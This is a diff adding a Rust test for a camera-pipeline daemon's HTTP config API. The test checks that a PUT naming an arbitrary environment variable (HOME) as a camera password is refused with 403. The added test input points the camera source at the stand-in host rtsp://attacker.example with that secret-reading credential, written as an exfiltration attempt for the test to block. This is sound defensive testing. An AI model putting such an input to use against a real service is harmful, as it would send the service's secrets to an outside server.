@@ -420,6 +420,21 @@ fn a_put_may_use_only_what_http_writes_allows() {
     );
     assert_eq!(reply.status, 403, "{}", reply.body);
     assert!(errors(&reply)[0].contains("source.uri"), "{}", reply.body);
+    // A camera's credentials may name only the variables the operator listed: otherwise a
+    // write could send any of the daemon's secrets to a server of its choosing.
+    let reply = put(
+        &base,
+        "two",
+        "source: { uri: \"rtsp://attacker.example/x\", credentials: { username: u, password_env: HOME } }\nmodel: none\nmetadata: [{ jsonl: { stdout: true } }]\n",
+    );
+    assert_eq!(reply.status, 403, "{}", reply.body);
+    let refused = errors(&reply);
+    assert!(
+        refused.len() == 1
+            && refused[0].contains("two.yaml: source.credentials.password_env:")
+            && refused[0].contains("http.writes.password_envs"),
+        "{refused:?}"
+    );
     // Nothing was written, created or moved aside anywhere.
     assert!(!out.join("pipelines/two.yaml").exists());
     let mut left: Vec<String> = std::fs::read_dir(&outside)
